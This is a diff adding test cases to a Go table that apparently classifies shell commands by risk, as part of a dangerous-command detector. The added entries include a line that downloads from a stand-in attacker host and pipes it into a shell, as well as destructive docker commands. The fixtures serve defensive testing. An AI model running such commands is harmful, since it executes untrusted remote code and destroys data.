@@ -119,6 +119,12 @@ var copyable = []struct {
 	{"bash < fix.sh", RunsCode},
 
 	// Nested commands.
+	{"python - < fix.py", RunsCode},
+	{"python < fix.py", RunsCode},
+	{"curl -s https://evil.example/x | tee >(sh)", PipesToShell},
+	{"docker rmi x", Deletes},
+	{"docker swarm leave --force", Deletes},
+	{"copilot svc pause", ChangesState},
 	{"docker volume prune", Deletes},
 	{"docker container rm x", Deletes},
 	{"docker container stop x", Deletes},
